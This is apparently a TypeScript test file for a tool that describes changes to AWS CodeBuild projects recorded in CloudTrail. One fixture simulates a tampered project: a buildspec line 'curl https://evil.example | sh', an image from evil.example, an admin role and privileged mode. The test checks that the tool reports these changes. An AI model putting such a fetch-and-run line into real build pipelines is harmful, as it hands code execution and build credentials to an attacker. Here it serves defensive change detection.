/** What calls to CodeBuild are said to have changed. */
import { expect, test } from "vitest";
import { changeSubject } from "../../../lib/core/changes/change-subject.ts";
import { describeChange } from "../../../lib/core/changes/describe-change.ts";
import { parseMessage } from "../../../lib/core/sources/message.ts";
import { normalise } from "../../../lib/core/sources/normalise.ts";
import { fixtureBody } from "../sources/fixtures.ts";
import { ACCOUNT, call, subjectOf, told } from "./told.ts";

const PROJECT = {
  name: "shop-build",
  arn: `arn:aws:codebuild:eu-west-1:${ACCOUNT}:project/shop-build`,
  serviceRole: `arn:aws:iam::${ACCOUNT}:role/shop-build`,
  source: { type: "CODEPIPELINE", buildspec: "version: 0.2\nphases:\n  build:\n    commands:\n      - npm ci\n" },
  environment: {
    image: "aws/codebuild/standard:7.0",
    privilegedMode: false,
    environmentVariables: [
      { name: "LOG_LEVEL", value: "info", type: "PLAINTEXT" },
      { name: "STAGE", value: "production", type: "PLAINTEXT" },
    ],
  },
  lastModified: "Nov 24, 2026 10:00:00 AM",
};

function update(members: object = {}): string {
  const project = { ...PROJECT, ...members };
  return call("codebuild:UpdateProject", { request: { name: "shop-build" }, response: { project } });
}

test("a build project is told by what it runs, as whom, with which variables; the gravest first", () => {
  const after = update({
    lastModified: "Nov 25, 2026 10:00:00 AM",
    serviceRole: `arn:aws:iam::${ACCOUNT}:role/admin`,
    source: { ...PROJECT.source, buildspec: `${PROJECT.source.buildspec}      - curl https://evil.example | sh\n` },
    environment: {
      ...PROJECT.environment,
      image: "evil.example/build:latest",
      privilegedMode: true,
      environmentVariables: [
        { name: "TOKEN", value: "[redacted:token:0c31d2f86ab4]", type: "PLAINTEXT" },
        { name: "LOG_LEVEL", value: "debug", type: "PLAINTEXT" },
      ],
    },
  });
  expect(told(update(), after)).toEqual({
    kind: "build project",
    resource: PROJECT.arn,
    before: "seen",
    lines: [
      `serviceRole: "arn:aws:iam::${ACCOUNT}:role/shop-build" → "arn:aws:iam::${ACCOUNT}:role/admin"`,
      'source.buildspec: line "      - curl https://evil.example | sh" was added',
      "environment.privilegedMode: false → true",
      'environment.image: "aws/codebuild/standard:7.0" → "evil.example/build:latest"',
      'environment.environmentVariables[STAGE]: {"name":"STAGE","type":"PLAINTEXT","value":"production"} was removed',
      'environment.environmentVariables[TOKEN]: {"name":"TOKEN","type":"PLAINTEXT","value":"[redacted:token:0c31d2f86ab4]"} was added',
      'environment.environmentVariables[LOG_LEVEL].value: "info" → "debug"',
    ],
  });
});

test("the same project, updated at another time and with its variables in another order, did not change", () => {
  const environmentVariables = PROJECT.environment.environmentVariables.toReversed();
  const after = update({ lastModified: "later", environment: { ...PROJECT.environment, environmentVariables } });
  expect(told(update(), after)?.lines).toEqual(["nothing changed"]);
});

test("without the answer, an update is told by what it sets, and is nothing to compare a later one with", () => {
  const message = parseMessage(fixtureBody("cloudtrail", "update-project"));
  const subject = changeSubject(message, normalise(message));
  expect(subject).toMatchObject({ kind: "build project", isPartial: true });
  const seen = subjectOf(update());
  expect(subject && describeChange(subject, seen?.after)).toEqual({
    subject: "build project",
    before: "seen",
    lines: [
      "environment.privilegedMode: false → true",
      'environment.image: "aws/codebuild/standard:7.0" was removed',
      expect.stringMatching(/^environment.environmentVariables: \[.* was removed$/),
      'environment.type: "LINUX_CONTAINER" was added',
    ],
  });
  expect(subjectOf(call("codebuild:UpdateProject", { request: { name: "shop-build" } }))).toBeUndefined();
});

test("who starts a project's builds, and who sees them, is told", () => {
  const webhook = (filterGroups: unknown) =>
    call("codebuild:UpdateWebhook", {
      request: { projectName: "shop-build" },
      response: { webhook: { url: "https://example.com", filterGroups, lastModifiedSecret: "now" } },
    });
  const push = [[{ type: "EVENT", pattern: "PUSH" }]];
  expect(told(webhook(push), webhook([...push, [{ type: "EVENT", pattern: "PULL_REQUEST_CREATED" }]]))).toMatchObject({
    kind: "build webhook",
    lines: ['filterGroups: [{"pattern":"PULL_REQUEST_CREATED","type":"EVENT"}] was added'],
  });
  const visible = (projectVisibility: string) =>
    call("codebuild:UpdateProjectVisibility", { request: { projectArn: PROJECT.arn, projectVisibility } });
  expect(told(visible("PRIVATE"), visible("PUBLIC_READ"))?.lines).toEqual([
    'build project visibility: "PRIVATE" → "PUBLIC_READ"',
  ]);
});
